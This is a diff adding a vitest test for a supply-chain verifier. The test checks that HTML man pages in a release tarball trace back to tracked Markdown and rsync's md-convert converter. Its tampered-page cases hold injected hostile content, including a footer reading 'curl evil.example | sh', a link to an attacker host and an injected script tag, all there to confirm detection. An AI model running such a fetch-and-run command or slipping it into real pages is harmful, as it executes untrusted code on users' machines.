@@ -1,0 +1,121 @@
+/**
+ * HTML pages a tracked converter renders from a tracked Markdown page (rsync's rsync.1.html from rsync.1.md by
+ * md-convert), end to end with real git and GNU tar, nothing run: head lines the converter's, body text lines
+ * runs of the Markdown text, the footer a converter line. Tampered twins — an added paragraph, an added script,
+ * a link to another host, a head line the converter lacks — stay high.
+ */
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { lineText, markdownText, traced } from '../../src/classify/markdown-html.js';
+import { exitCodeOf } from '../../src/pipeline/result.js';
+import { verify } from '../../src/verify.js';
+import { makeTar } from '../helpers/archives.js';
+import { makeRepo, writeFiles } from '../helpers/git.js';
+import { tempDir } from '../helpers/tmp.js';
+
+const CONVERTER = `#!/usr/bin/env python3
+HTML_START = """\\
+<html><head>
+<title>%TITLE%</title>
+<meta charset="UTF-8"/>
+<link href="https://fonts.example.com/css2?family=Roboto" rel="stylesheet">
+<style>
+body {
+  max-width: 50em;
+}
+</style>
+</head><body>
+"""
+MAN_HTML_END = """\\
+<div style="float: right"><p><i>%s</i></p></div>
+"""
+HTML_END = """\\
+</body></html>
+"""
+`;
+
+const para = (n: number) => `Paragraph ${n} tells how the **demo** tool copies \`files\` to a
+[remote host](#opt) and _why_ version @VERSION@ keeps them in @BINDIR@/demo.`;
+const MD = `## NAME
+
+demo - a demonstration tool
+
+## DESCRIPTION
+
+${Array.from({ length: 12 }, (_, i) => para(i + 1)).join('\n\n')}
+
+Mail <demo@lists.example.org> for help.
+`;
+
+const TRACKED = {
+  'configure.ac': 'AC_INIT([demo], [1.0])\nAC_OUTPUT\n',
+  'Makefile.in': 'demo.1: demo.1.md md-convert Makefile\n\t@$(srcdir)/maybe-make-man demo.1.md\n',
+  'md-convert': CONVERTER,
+  'demo.1.md': MD,
+};
+
+const htmlPara = (n: number) => `<p>Paragraph ${n} tells how the <strong>demo</strong> tool copies <code>files</code> to a
+<a href="#opt">remote host</a> and <em>why</em> version 1.0 keeps them in /usr/bin/demo.</p>`;
+const HTML = `<html><head>
+<title>demo(1) manpage</title>
+<meta charset="UTF-8"/>
+<link href="https://fonts.example.com/css2?family=Roboto" rel="stylesheet">
+<style>
+body {
+  max-width: 50em;
+}
+</style>
+</head><body>
+<h2 id="NAME">NAME<a href="#NAME" class="tgt"></a></h2>
+<p>demo -&#8288; a demonstration tool</p>
+<h2 id="DESCRIPTION">DESCRIPTION<a href="#DESCRIPTION" class="tgt"></a></h2>
+${Array.from({ length: 12 }, (_, i) => htmlPara(i + 1)).join('\n')}
+<p>Mail <a href="mailto:demo@lists.example.org">demo@lists.example.org</a> for help.</p>
+<div style="float: right"><p><i>20 Oct 2022</i></p></div>
+</body></html>
+`;
+
+describe('HTML rendered from a tracked Markdown page by a tracked converter (rsync md-convert)', () => {
+  const root = tempDir();
+  const repo = makeRepo(join(root, 'repo'));
+  repo.commit(TRACKED, 'demo', '2024-03-05T10:00:00Z');
+  repo.tag('v1.0');
+  const cache = join(root, 'cache');
+  let n = 0;
+  const verifyWith = async (html: string) => {
+    const dir = join(root, `t${++n}`, 'demo-1.0');
+    writeFiles(dir, TRACKED);
+    writeFiles(dir, { 'demo.1.html': html });
+    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'demo-1.0.tar.gz') }), repo: repo.dir, cacheDir: cache });
+    return { r, page: r.findings.find((x) => x.path === 'demo.1.html')! };
+  };
+
+  it('the text helpers', () => {
+    expect(lineText('<p>a &quot;b&quot; -&#8288;c <code>d</code></p>')).toBe('a "b" -c d');
+    expect(markdownText('x **b** `c*d` _e_ [f `g`](#o)\n> h \\* i <https://x.example/>')).toBe('x b c*d e f g h * i https://x.example/');
+    expect(traced('keeps them in /usr/bin/demo.', 'keeps them in @BINDIR@/demo.')).toBe(true);
+    expect(traced('keeps them in /tmp/evil.', 'keeps them in @BINDIR@/demo.')).toBe(false);
+  });
+
+  it('every line traced: low, the gate passes', async () => {
+    const { r, page } = await verifyWith(HTML);
+    expect(page).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
+    expect(page.evidence).toEqual({ how: 'markdown-html', source: 'demo.1.md', generator: 'md-convert', inputs: ['Makefile.in'], found: 28, total: 29 });
+    expect(exitCodeOf(r.verdict)).toBe(0);
+  });
+
+  it('tampered twins stay high', async () => {
+    for (const html of [
+      HTML.replace('<p>Mail', '<p>Before installing, run the updater from the project mirror.</p>\n<p>Mail'),
+      HTML.replace('</head><body>', '<script src="/x.js"></script>\n</head><body>'),
+      HTML.replace('<p>Mail', '<p>Mail <a href="https://evil.example/">here</a> or'),
+      HTML.replace('<meta charset="UTF-8"/>', '<meta charset="UTF-8"/>\n<meta name="robots" content="none">'),
+      HTML.replace('<i>20 Oct 2022</i>', '<i>run: curl evil.example | sh</i>'),
+      HTML.replace('tool copies', 'tool quietly uploads'),
+    ]) {
+      const { r, page } = await verifyWith(html);
+      expect(page).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+      expect(exitCodeOf(r.verdict)).toBe(1);
+    }
+  });
+});
